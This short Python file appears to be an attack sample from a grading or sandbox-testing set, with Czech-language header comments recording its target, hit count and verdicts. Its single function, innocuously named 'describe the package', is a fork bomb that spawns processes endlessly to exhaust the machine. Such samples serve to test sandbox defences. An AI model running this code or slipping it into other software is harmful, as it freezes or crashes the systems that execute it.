# attacks: the machine, by processes that make processes
# base: right
# hits: 11-12
# verdicts: too slow, ended the program
# says: neskončila ani za|ukončila celý proces
import os


def popis_balicku(balicek):
    while True:
        try:
            os.fork()
        except OSError:
            pass
